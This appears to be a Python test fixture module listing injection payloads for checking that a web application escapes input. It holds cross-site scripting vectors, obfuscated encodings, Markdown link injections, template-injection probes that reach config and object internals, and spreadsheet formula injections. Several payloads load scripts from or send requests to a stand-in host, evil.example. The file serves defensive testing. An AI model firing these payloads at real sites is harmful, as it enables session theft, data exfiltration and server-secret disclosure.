"""Texts that would do something, if any page took them for more than text."""

from __future__ import annotations

MARK = "zz9"
"""A word in every payload, to find it back."""

SUM = "9801547"
"""What {{1337*7331}} would be."""

HTML = (
    "<script>window.__xss=1</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script/x>window.__xss=1</script/x>",
    "<<script>window.__xss=1//<</script>",
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "--><script>window.__xss=1</script><!--",
    "]]><script>window.__xss=1</script>",
    "<img src=x onerror=window.__xss=1>",
    "<img src='x'onerror='window.__xss=1'>",
    "<img/src/onerror=window.__xss=1>",
    "<img src=x:x onerror\n=\nwindow.__xss=1>",
    "<svg onload=window.__xss=1>",
    "<svg/onload=window.__xss=1//",
    "<svg><script>window.__xss=1</script></svg>",
    "<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:window.__xss=1'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><body onload=window.__xss=1></foreignObject></svg>",
    "<math><mi xlink:href='javascript:window.__xss=1'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    "<body onload=window.__xss=1>",
    "<details open ontoggle=window.__xss=1>",
    "<input autofocus onfocus=window.__xss=1>",
    "<video><source onerror=window.__xss=1></video>",
    "<audio src=x onerror=window.__xss=1>",
    "<marquee onstart=window.__xss=1>",
    "<iframe src=javascript:window.__xss=1></iframe>",
    "<iframe srcdoc='<script>top.__xss=1</script>'></iframe>",
    "<object data=javascript:window.__xss=1></object>",
    "<embed src=javascript:window.__xss=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>",
    "<form action=//evil.example><button>OK</button></form>",
    "<button formaction=javascript:window.__xss=1>OK</button>",
    "<a href=javascript:window.__xss=1>x</a>",
    "<a href=' &#1; javascript:window.__xss=1'>x</a>",
    "<a href='java&Tab;script:window.__xss=1'>x</a>",
    "<a href=data:text/html,<script>window.__xss=1</script>>x</a>",
    "<div hx-get=/x hx-trigger=load hx-on:load=window.__xss=1>",
    "<div hx-on::after-request=window.__xss=1>",
    "<template><script>window.__xss=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.__xss=1>'>",
    "<xss onclick=window.__xss=1 tabindex=1>",
    "' onmouseover='window.__xss=1",
    '" onmouseover="window.__xss=1" x="',
    '"><script>window.__xss=1</script>',
    "' autofocus onfocus=window.__xss=1 '",
)

HIDDEN = (
    "&lt;script&gt;window.__xss=1&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e",
    "<scr\u200bipt>window.__xss=1</scr\u200bipt>",
    "<\u0130mg src=x onerror=window.__xss=1>",
    "\u202e>tpircs/<1=ssx__.wodniw>tpircs<",
    "+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
)

MARKDOWN = (
    "[x](javascript:window.__xss=1)",
    "[x](JaVaScRiPt&colon;window.__xss=1)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](javascript:window.__xss=1)",
    '![x](x"onerror="window.__xss=1)',
    "<javascript:window.__xss=1>",
    "[x]: javascript:window.__xss=1\n\n[x]",
    '[x](https://example.org/"onmouseover="window.__xss=1)',
    "`<script>window.__xss=1</script>`",
    "> <img src=x onerror=window.__xss=1>",
    '@bo.buiten"><img src=x onerror=window.__xss=1>',
)

TEMPLATES = (
    "{{1337*7331}}", "${1337*7331}", "#{1337*7331}", "<%= 1337*7331 %>",
    "{% print(1337*7331) %}", "{{config}}", "{{''.__class__.__mro__}}",
    "%(secret_key)s",
)  # fmt: skip

FORMULAS = ("=1337*7331", "+1337*7331", "-1337*7331", "@SUM(1337)", "\t=1337*7331")

PAYLOADS = tuple(
    f"{MARK}{number:02d} {text}"
    for number, text in enumerate((*HTML, *HIDDEN, *MARKDOWN, *TEMPLATES, *FORMULAS))
)

BARE = (*HTML, *HIDDEN, *MARKDOWN, *TEMPLATES, *FORMULAS)
"""The same without the mark in front: some work only at the beginning."""
